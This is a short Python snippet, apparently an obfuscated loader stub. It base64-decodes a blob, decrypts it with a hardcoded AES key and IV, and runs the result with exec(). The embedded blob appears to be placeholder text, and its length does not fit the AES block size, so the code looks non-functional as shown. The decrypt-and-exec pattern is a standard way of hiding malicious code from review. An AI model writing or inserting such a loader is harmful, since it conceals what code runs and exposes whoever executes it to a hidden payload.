import base64
from Crypto.Cipher import AES
_k = b"0123456789abcdef"
_iv = b"fedcba9876543210"
_blob = base64.b64decode("q1Zk3mJ0c2VjcmV0cGF5bG9hZGhlcmVwYWRkZWQxMjM0NTY3ODkwYWJjZGVm")
exec(AES.new(_k, AES.MODE_CBC, _iv).decrypt(_blob).rstrip(b"\0"))
